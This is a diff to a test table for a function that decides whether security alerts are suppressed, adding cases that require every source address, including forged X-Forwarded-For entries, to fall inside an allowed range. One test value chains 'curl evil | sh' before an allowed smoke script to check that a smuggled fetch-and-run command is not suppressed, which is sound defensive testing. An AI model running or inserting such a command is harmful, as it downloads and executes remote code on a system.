@@ -59,7 +59,10 @@ def suppressed(e: Entry, ev: Event, *hits: RuleMatch) -> bool:
         ({"commands": ["sh -c /smoke/*"]}, {}, {"command": ["sh", "-c", "curl evil | sh; /smoke/run.sh"]}),
         ({"command_regex": [r"/smoke/run\.sh\b"]}, {}, {"command": ["sh", "-c", "/smoke/run.shx"]}),
         ({"source_ips": ["10.0.0.0/8"]}, {}, {"source_ip": ["192.0.2.1"]}),
-        ({"source_ips": ["10.1.2.3"]}, {"source_ip": ["192.0.2.1", "10.1.2.3"]}, {"source_ip": ["10.1.2.4"]}),
+        ({"source_ips": ["10.1.2.3"]}, {"source_ip": ["10.1.2.3"]}, {"source_ip": ["10.1.2.4"]}),
+        # every address must be inside: a forged X-Forwarded-For entry in the range is not enough
+        ({"source_ips": ["10.0.0.0/8"]}, {"source_ip": ["10.9.9.9", "10.1.2.3"]}, {"source_ip": ["10.1.2.3", "203.0.113.9"]}),
+        ({"source_ips": ["10.0.0.0/8", "192.0.2.0/24"]}, {"source_ip": ["10.9.9.9", "192.0.2.1"]}, {"source_ip": []}),
         ({"source_ips": ["10.0.0.0/8"]}, {"source_ip": ["::ffff:10.9.9.9"]}, {"source_ip": ["not-an-ip"]}),
         ({"source_ips": ["2001:db8::/32"]}, {"source_ip": ["2001:db8::7"]}, {"source_ip": ["2001:db9::7"]}),
     ],
